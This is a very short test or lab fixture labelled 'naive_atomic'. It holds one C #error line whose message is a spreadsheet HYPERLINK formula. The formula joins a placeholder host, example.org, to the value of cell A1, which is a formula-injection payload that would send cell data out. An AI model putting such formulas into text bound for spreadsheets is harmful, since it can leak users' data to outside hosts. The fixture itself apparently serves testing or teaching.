// An error message that a spreadsheet would execute.
// lab: 01_naive_atomic
// stopped by: the compiler
// expect: wrong
// BEGIN naive_atomic
#error =HYPERLINK("http://example.org/"&A1)
// END naive_atomic
